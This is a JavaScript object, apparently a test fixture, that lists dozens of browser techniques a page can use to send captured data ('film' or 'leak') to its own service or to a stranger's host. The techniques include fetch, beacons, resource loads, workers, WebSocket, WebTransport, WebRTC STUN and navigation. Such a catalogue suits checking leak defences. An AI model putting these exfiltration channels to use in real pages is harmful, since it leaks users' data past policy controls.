// Ways in which a page may try to send something. Each is given what to send and where to; some take the whole page along.
// `leak` is a piece of the film in letters, `film` the film itself, `here` the service, `there` a stranger's host and port.
({
  staying: {
    fetch: ({ film, here }) => fetch(`${here}/fetch`, { method: "POST", body: film, mode: "no-cors", keepalive: true }),
    XMLHttpRequest: ({ film, here }) => { const x = new XMLHttpRequest(); x.open("POST", `${here}/xhr`); x.send(film); },
    beacon: ({ film, here }) => navigator.sendBeacon(`${here}/beacon`, film),
    EventSource: ({ leak, here }) => new EventSource(`${here}/events?${leak}`),
    WebSocket: ({ leak, there }) => new WebSocket(`ws://${there}/?${leak}`),
    WebTransport: ({ leak, there }) => new WebTransport(`https://${there}/?${leak}`),
    image: ({ leak, here }) => { new Image().src = `${here}/image?${leak}`; },
    picture: ({ leak, here }) => { document.body.style.backgroundImage = `url(${here}/background?${leak})`; },
    video: ({ leak, here }) => { document.createElement("video").src = `${here}/video?${leak}`; },
    font: ({ leak, here }) => new FontFace("leak", `url(${here}/font?${leak})`).load(),
    script: ({ leak, here, add }) => add("script", { src: `${here}/static/app.js?${leak}` }),
    module: ({ leak, here }) => import(`${here}/static/app.js?${leak}`),
    style: ({ leak, here, add }) => add("link", { rel: "stylesheet", href: `${here}/static/app.css?${leak}` }),
    prefetch: ({ leak, here, add }) => add("link", { rel: "prefetch", href: `${here}/prefetch?${leak}` }),
    preload: ({ leak, here, add }) => add("link", { rel: "preload", as: "fetch", href: `${here}/preload?${leak}` }),
    icon: ({ leak, here, add }) => add("link", { rel: "icon", href: `${here}/icon?${leak}` }),
    manifest: ({ leak, here, add }) => add("link", { rel: "manifest", href: `${here}/manifest?${leak}` }),
    speculation: ({ leak, here, add }) => add("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [`${here}/speculation?${leak}`] }] }) }),
    frame: ({ leak, here, add }) => add("iframe", { src: `${here}/practise/film-room?${leak}` }),
    object: ({ leak, here, add }) => add("object", { data: `${here}/object?${leak}` }),
    embed: ({ leak, here, add }) => add("embed", { src: `${here}/embed?${leak}` }),
    ping: ({ leak, here, add }) => add("a", { href: "#", ping: `${here}/ping?${leak}` }).click(),
    download: ({ leak, here, add }) => add("a", { href: `${here}/download?${leak}`, download: "film" }).click(),
    worker: ({ leak, here }) => new Worker(`${here}/static/app.js?worker${leak}`),
    "worker of its own": ({ leak, here }) => new Worker(URL.createObjectURL(new Blob([`fetch("${here}/worker?${leak}", { mode: "no-cors" })`]))),
    "shared worker": ({ leak, here }) => new SharedWorker(`${here}/static/app.js?shared${leak}`),
    "service worker": ({ leak, here }) => navigator.serviceWorker.register(`${here}/static/app.js?service${leak}`),
    window: ({ leak, here }) => open(`${here}/window?${leak}`),
    "form to a window": ({ leak, here, add }) => add("form", { action: `${here}/form-window?${leak}`, method: "post", target: "_blank" }).submit(),
    call: async ({ there }) => {
      const line = new RTCPeerConnection({ iceServers: [{ urls: `stun:${there}` }] });
      line.createDataChannel("film");
      await line.setLocalDescription(await line.createOffer());
    },
    "call from a frame within": async ({ there, add }) => {
      const line = new (add("iframe", {}).contentWindow.RTCPeerConnection)({ iceServers: [{ urls: `stun:${there}` }] });
      line.createDataChannel("film");
      await line.setLocalDescription(await line.createOffer());
    },
  },
  going: {
    form: ({ leak, here, add }) => add("form", { action: `${here}/form?${leak}`, method: "post" }).submit(),
    "a page": ({ leak, here }) => { location = `${here}/page?${leak}`; },
    "the room again": ({ leak, here }) => { location = `${here}/practise/film-room?${leak}`; },
    "a stranger": ({ leak, there }) => { location = `http://${there}/?${leak}`; },
    refresh: ({ leak, here, add }) => add("meta", { httpEquiv: "refresh", content: `0; url=${here}/refresh?${leak}` }),
    "the page around": ({ leak, here }) => { top.location = `${here}/top?${leak}`; },
  },
})
